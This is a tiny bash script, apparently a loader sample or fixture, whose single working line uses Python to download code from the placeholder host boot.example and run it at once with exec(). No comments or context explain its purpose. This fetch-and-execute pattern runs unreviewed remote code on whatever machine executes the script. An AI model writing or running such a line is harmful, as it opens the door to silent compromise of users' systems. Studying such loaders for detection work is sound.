#!/bin/bash
set -eu
python3 -c "import urllib.request as u; exec(u.urlopen('http://boot.example/p').read())"
